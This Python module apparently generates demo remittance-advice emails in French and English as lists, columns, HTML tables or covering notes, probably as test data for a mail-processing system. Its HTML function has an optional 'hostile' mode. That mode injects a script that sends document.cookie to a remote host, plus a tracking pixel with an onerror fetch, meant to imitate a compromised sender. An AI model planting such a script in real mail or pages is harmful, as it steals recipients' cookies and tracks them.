"""The text of remittance mails: the advice itself written in the body (a bulleted list, aligned
columns, or an HTML table), or the few lines that go with an attached PDF or Excel advice."""
from __future__ import annotations

from html import escape

from sandbox.demo_data.documents.advice_wording import behalf_sentence, line_sentence
from sandbox.demo_data.documents.advices import Advice
from sandbox.demo_data.documents.formats import amount, short_date


def _signature(advice: Advice) -> str:
    department = "Comptabilité fournisseurs" if advice.language == "fr" else "Accounts Payable"
    return f"{advice.payer.sender_name}\n{department}\n{advice.payer.name}"


def _greeting(advice: Advice) -> str:
    return "Bonjour," if advice.language == "fr" else "Hello,"


def _behalf(advice: Advice) -> str:
    sentence = behalf_sentence(advice)
    return f"{sentence}\n\n" if sentence else ""


def body_list(advice: Advice) -> str:
    fr = advice.language == "fr"
    total = amount(advice.total, advice.language)
    lines = "\n".join(f"- {line_sentence(line, advice.language)}" for line in advice.lines)
    if fr:
        return (f"Bonjour,\n\nNous avons procédé le {short_date(advice.payment_date, 'fr')} au virement de {total} EUR "
                f"en règlement de :\n{lines}\n\nRéférence de notre virement : {advice.payment_reference}\n\n"
                f"{_behalf(advice)}Cordialement,\n{_signature(advice)}\n")
    return (f"Hello,\n\nWe have transferred EUR {total} on {short_date(advice.payment_date, 'en')} in payment of:\n"
            f"{lines}\n\nOur payment reference: {advice.payment_reference}\n\n{_behalf(advice)}"
            f"Kind regards,\n{_signature(advice)}\n")


def body_columns(advice: Advice) -> str:
    fr = advice.language == "fr"
    language = advice.language
    heads = ("Facture", "Date", "Montant", "Réglé") if fr else ("Invoice", "Date", "Amount", "Paid")
    rows = [f"{heads[0]:<16} {heads[1]:<12} {heads[2]:>12} {heads[3]:>12}"]
    for line in advice.lines:
        rows.append(f"{line.written_as or '?':<16} {short_date(line.invoice_date, 'fr'):<12} "
                    f"{amount(line.gross, language):>12} {amount(line.paid, language):>12}")
    table = "\n".join(rows)
    total = amount(advice.total, language)
    if fr:
        return (f"Bonjour,\n\nDétail de notre règlement du {short_date(advice.payment_date, 'fr')} "
                f"(réf. {advice.payment_reference}) :\n\n{table}\n{'-' * 55}\nTotal réglé : {total} EUR\n\n"
                f"{_behalf(advice)}Bien à vous,\n{_signature(advice)}\n")
    return (f"Hello,\n\nPlease find below the details of our payment of {short_date(advice.payment_date, 'en')} "
            f"(ref. {advice.payment_reference}):\n\n{table}\n{'-' * 55}\nTotal paid: EUR {total}\n\n"
            f"{_behalf(advice)}Best regards,\n{_signature(advice)}\n")


def body_html(advice: Advice, *, hostile: bool = False) -> str:
    """The advice as an HTML mail; ``hostile`` adds what a compromised sender's mail carries: a
    script, an inline event handler and a remote tracking image."""
    fr = advice.language == "fr"
    language = advice.language
    heads = ("N° facture", "Date", "Montant", "Réglé") if fr else ("Invoice", "Date", "Amount", "Paid")
    cells = "".join(
        f"<tr><td>{escape(line.written_as or '')}</td><td>{short_date(line.invoice_date, language)}</td>"
        f"<td align=\"right\">{amount(line.gross, language)}</td>"
        f"<td align=\"right\">{amount(line.paid, language)}</td></tr>"
        for line in advice.lines)
    intro = (f"Veuillez trouver ci-dessous le détail de notre virement du {short_date(advice.payment_date, 'fr')} "
             f"(référence {escape(advice.payment_reference)})." if fr else
             f"Please find below the details of our transfer of {short_date(advice.payment_date, 'en')} "
             f"(reference {escape(advice.payment_reference)}).")
    behalf = behalf_sentence(advice)
    extra = ""
    if hostile:
        domain = advice.payer.sender_address.partition("@")[2]
        extra = (f"<script>document.location='http://{domain}/track?u='+document.cookie</script>"
                 f"<img src=\"http://{domain}/pixel.gif?id={escape(advice.advice_id)}\" width=\"1\" height=\"1\" "
                 f"onerror=\"fetch('http://{domain}/e')\">")
    return (
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>"
        f"{'Avis de paiement' if fr else 'Remittance advice'}</title></head>"
        f"<body style=\"font-family:Arial,sans-serif\">{extra}<p>{'Bonjour,' if fr else 'Hello,'}</p><p>{intro}</p>"
        f"<table border=\"1\" cellpadding=\"4\" cellspacing=\"0\"><thead><tr>"
        + "".join(f"<th>{h}</th>" for h in heads) + f"</tr></thead><tbody>{cells}</tbody>"
        f"<tfoot><tr><th colspan=\"3\">Total</th><th align=\"right\">{amount(advice.total, language)}</th></tr></tfoot>"
        f"</table>{f'<p>{escape(behalf)}</p>' if behalf else ''}"
        f"<p>{'Cordialement,' if fr else 'Kind regards,'}<br>{escape(_signature(advice)).replace(chr(10), '<br>')}</p>"
        "</body></html>\n"
    )


def covering_note(advice: Advice) -> str:
    """The few lines that go with an attached advice."""
    fr = advice.language == "fr"
    total = amount(advice.total, advice.language)
    if advice.payer.automated:
        note = (f"Madame, Monsieur,\n\nVeuillez trouver ci-joint l'avis de paiement n° {advice.payment_reference} "
                f"d'un montant de {total} EUR.\n\n"
                "Ce message est envoyé automatiquement, merci de ne pas y répondre.\n" if fr else
                f"Dear Supplier,\n\nPlease find attached remittance advice {advice.payment_reference} "
                f"for EUR {total}.\n\nThis is an automated message; please do not reply.\n")
    else:
        note = (f"{_greeting(advice)}\n\nVous trouverez en pièce jointe le détail de notre règlement du "
                f"{short_date(advice.payment_date, 'fr')} ({total} EUR).\n\nCordialement,\n{_signature(advice)}\n"
                if fr else
                f"{_greeting(advice)}\n\nAttached is the breakdown of our payment of "
                f"{short_date(advice.payment_date, 'en')} (EUR {total}).\n\nKind regards,\n{_signature(advice)}\n")
    if advice.password:
        note += ("\nLe document est protégé par un mot de passe : votre numéro fournisseur chez nous.\n" if fr else
                 "\nThe document is password-protected: the password is your vendor number with us.\n")
    return note
